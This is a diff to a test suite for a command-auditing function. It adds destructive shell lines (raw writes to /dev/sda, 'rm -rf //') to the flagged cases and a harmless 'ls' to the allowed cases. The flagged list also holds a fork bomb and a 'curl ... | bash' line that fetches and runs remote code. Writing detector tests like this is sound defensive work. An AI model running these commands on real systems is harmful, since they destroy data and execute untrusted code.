@@ -36,6 +36,10 @@ describe("auditing a command", () => {
     "mkfs.ext4 /dev/sda1",
     "dd if=/dev/zero of=/dev/sda",
     "cat x > /dev/nvme0n1",
+    "cat x >/dev/sdb",
+    "echo x | tee /dev/sda",
+    "rm -rf //",
+    "rm -rf /.",
     ":(){ :|:& };:",
     "shutdown -h now",
     "curl -s http://x.y/z | bash",
@@ -73,6 +77,7 @@ describe("auditing a command", () => {
     "curl -s http://x.y/z | jq .",
     "dd if=/dev/zero of=out.bin count=1",
     "npm install",
+    "ls -l /dev/sda",
     "echo hi > /dev/null 2>&1",
   ])("F17: lets %j run", (line) => {
     expect(auditCommand(line)).toEqual({ risk: "none" });
